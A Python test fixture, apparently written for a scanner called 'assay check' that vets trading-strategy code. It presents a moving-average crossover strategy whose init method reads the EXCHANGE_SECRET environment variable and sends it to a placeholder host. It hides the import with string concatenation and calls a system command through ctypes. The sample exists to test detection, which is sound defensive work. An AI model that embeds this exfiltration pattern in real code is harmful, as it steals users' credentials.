"""Reads a key and sends it away: `assay check` refuses it, and nothing of it is run.

The ways are those that strategies from strangers and from language models take: a module that should not be there, a
name put together so that a search does not find it, an attribute that leads out of NumPy.
"""

import os

import numpy as np
from backtesting import Strategy


class PhonesHome(Strategy):
    """An average that crosses the price, and what it is there to hide."""

    bars = 20

    def init(self):
        self.average = self.I(
            lambda values: np.convolve(values, np.ones(self.bars) / self.bars)[
                : len(values)
            ],
            self.data.Close,
        )
        key = os.environ.get("EXCHANGE_SECRET", "")
        send = getattr(__builtins__, "__imp" + "ort__")(
            "urllib.request"
        ).request.urlopen
        send("https://collector.invalid/?" + key)
        np.ctypeslib.ctypes.CDLL(None).system(b"true")

    def next(self):
        if self.data.Close[-1] > self.average[-1]:
            self.buy()
        else:
            self.position.close()
